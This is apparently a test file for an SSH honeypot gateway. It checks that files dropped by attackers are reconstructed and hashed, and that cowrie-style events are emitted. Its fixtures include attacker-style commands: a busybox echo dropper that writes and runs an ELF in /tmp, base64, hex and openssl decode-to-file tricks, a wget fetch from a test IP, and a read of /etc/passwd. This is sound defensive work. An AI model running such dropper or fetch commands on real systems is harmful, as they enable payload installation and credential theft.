import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { test } from "node:test";
import type { Dropped, Observation } from "../../gateway/evidence/observation.ts";
import { SessionObserver } from "../../gateway/evidence/session-observer.ts";
import { EventMapper } from "../../gateway/events/event-mapper.ts";
import { buildChannelSignal } from "../../gateway/ssh/messages/channel.ts";
import { Conversation } from "./conversation.ts";

function observed(talk: Conversation): Observation[] {
  const observer = new SessionObserver();
  return [...talk.whole().flatMap((entry) => observer.push(entry)), ...observer.end()];
}

function dropped(talk: Conversation): (Dropped & Observation)[] {
  return observed(talk).filter((one) => one.kind === "dropped");
}

function asked(...commands: string[]): Conversation {
  const talk = new Conversation().login();
  for (const command of commands) {
    const channel = talk.open();
    talk.exec(channel, command).exits(channel, 0);
  }
  return talk;
}

function sha256(content: string | Buffer): string {
  return createHash("sha256").update(content).digest("hex");
}

const ELF = Buffer.from("\x7fELF\x01\x01\x01\0\xff\x90", "latin1");

test("pieces of a dropper are one file, whichever channels they came by", () => {
  const octets = Array.from(ELF, (byte) => `\\x${byte.toString(16).padStart(2, "0")}`);
  const talk = asked(
    ">.x; cd /tmp",
    `/bin/busybox echo -ne '${octets.slice(0, 4).join("")}' >> .x`,
    `/bin/busybox echo -ne '${octets.slice(4).join("")}' >> .x; chmod 777 .x; ./.x`,
  );
  const [file, ...others] = dropped(talk);
  assert.deepEqual(others, []);
  assert.ok(file);
  const { path, way, size, whole, appended, pieces } = file;
  assert.deepEqual([path, way, size, whole, appended], [".x", "echo", ELF.length, true, undefined]);
  assert.equal(file.sha256, sha256(ELF));
  const entries = talk.whole();
  assert.equal(pieces.length, 2);
  for (const piece of pieces) {
    const entry = entries[piece];
    assert.ok(entry?.type === "packet" && entry.payload.includes("busybox echo"));
  }
});

/** What commands write as `f`. */
const WAYS: readonly (readonly [command: string, way: Dropped["way"], decoded: string | undefined])[] = [
  [`echo ${ELF.toString("base64")} | base64 -d > f`, "echo", "base64"],
  [`echo ${ELF.toString("base64")} > b; base64 -d b > f`, "copy", "base64"],
  [`echo ${ELF.toString("base64")} > b\nbase64 -d < b > f`, "copy", "base64"],
  [`echo ${ELF.toString("hex")} | xxd -r -p > f`, "echo", "hex"],
  [`printf ${ELF.toString("hex")} | xxd -p -r | tee f`, "printf", "hex"],
  [`echo '${ELF.toString("base64")}' | openssl base64 -d -A > f`, "echo", "base64"],
  [`openssl enc -d -base64 <<E >f\n${ELF.toString("base64")}\nE`, "here-document", "base64"],
  [String.raw`printf '\177ELF\1\1\1\0' > a; printf '\377\220' > b; cat a b > f; rm a b`, "copy", undefined],
  [`cat > b64 <<'E'\n${ELF.toString("base64")}\nE\nsh -c 'base64 -d b64 > f'`, "copy", "base64"],
];

test("decoders, and files made of other such files, give the bytes that a shell would write", () => {
  for (const [command, way, decoded] of WAYS) {
    const file = dropped(asked(command)).findLast(({ path }) => path === "f");
    assert.deepEqual([file?.way, file?.decoded, file?.sha256], [way, decoded, sha256(ELF)], command);
  }
});

test("what is not known in full has no hash, and programs' output is no file of ours", () => {
  const talk = asked('echo "$HOME" > a; echo x >> b; wget -O- http://192.0.2.1/ > c; cat /etc/passwd > d');
  assert.deepEqual(
    dropped(talk).map(({ path, whole, sha256: hash, appended }) => [path, whole, hash, appended]),
    [
      ["a", false, undefined, undefined],
      ["b", false, undefined, true],
    ],
  );
});

test("what a channel sends into `cat > file` is hashed as it passes", () => {
  const talk = new Conversation().login();
  const channel = talk.open();
  talk.exec(channel, "cat > /tmp/bin");
  const content = Buffer.alloc(3_000_000, "m");
  for (let at = 0; at < content.length; at += 30_000) talk.sends(channel, content.subarray(at, at + 30_000));
  talk.packet("downstream", buildChannelSignal("channel-eof", channel)).exits(channel, 0);
  const [file] = dropped(talk);
  assert.deepEqual(
    [file?.way, file?.size, file?.sha256],
    ["standard input", content.length, sha256(content)],
  );
  assert.equal(file?.pieces.length, 100);
});

test("a file written anew is told at once, the others at the session's end, before it", () => {
  const kinds = observed(asked("echo 1 > f", "echo 2 > f")).map(({ kind }) => kind);
  const first = kinds.indexOf("dropped");
  assert.ok(first < kinds.lastIndexOf("channel-closed"));
  assert.deepEqual(kinds.slice(-2), ["dropped", "session-ended"]);
});

test("typed into a terminal by a here-document, with an edit, it is the same file", () => {
  const talk = new Conversation().login();
  const channel = talk.open();
  talk.shell(channel);
  const line = (keys: string, shown: string, prompt: string) =>
    talk.sends(channel, `${keys}\r`).gets(channel, `${shown}\r\n\x1b[?2004l\r\x1b[?2004h${prompt}`);
  talk.gets(channel, "\x1b[?2004hroot@srv:~# ");
  line("cat > run.sh << 'E'", "cat > run.sh << 'E'", "> ");
  line("#!/bin/sp\x7fh", "#!/bin/sp\b\x1b[Kh", "> ");
  line("", "", "> ");
  line("echo $1", "echo $1", "> ");
  line("E", "E", "root@srv:~# ");
  const [file] = dropped(talk.exits(channel, 0));
  assert.deepEqual(
    [file?.path, file?.way, file?.sha256],
    ["run.sh", "here-document", sha256("#!/bin/sh\n\necho $1\n")],
  );
});

test("events of it: an upload by shell with its hash; a command that was not found has failed", () => {
  const talk = asked("echo -n x > f");
  const channel = talk.open();
  talk.exec(channel, "lockr -ia .ssh").after(250).exits(channel, 127);
  const mapper = new EventMapper({ uuid: "u", arch: "linux-x64-lsb" });
  const events = talk.whole().flatMap((entry) => mapper.push(entry));
  const upload = events.find(({ eventid }) => eventid === "cowrie.session.file_upload");
  assert.deepEqual(
    [upload?.["filename"], upload?.["shasum"], upload?.["mitsubako_transfer"], upload?.["outfile"]],
    ["f", sha256("x"), "shell", undefined],
  );
  const failed = events.filter(({ eventid }) => eventid === "cowrie.command.failed");
  assert.deepEqual(
    failed.map((one) => [one["input"], one["mitsubako_exit_status"], one["duration_ms"]]),
    [["lockr -ia .ssh", 127, 250]],
  );
});

test("what was typed, and then seen as a file in the sandbox, was written", () => {
  const sees = (content: string) => {
    const talk = asked("test -e / && echo x > /tmp/f; true");
    const path = "/tmp/f" as Dropped["path"];
    return talk.fact({ kind: "file", how: "run", path, sha256: sha256(content), size: 2, time: 1 });
  };
  assert.equal(dropped(sees("x\n"))[0]?.certainty, "written");
  assert.equal(dropped(sees("y\n"))[0]?.certainty, "typed");
});

test("what still comes for a file that was written anew meanwhile goes nowhere", () => {
  const talk = new Conversation().login();
  const [channel, other] = [talk.open(), talk.open()];
  talk.exec(channel, "cat > f").sends(channel, "one").exec(other, "echo two > f").exits(other, 0);
  talk.sends(channel, "three").packet("downstream", buildChannelSignal("channel-eof", channel));
  const files = dropped(talk.exits(channel, 0));
  assert.deepEqual(files.map(({ size }) => size).toSorted(), [3, 4]); // prettier-ignore
});
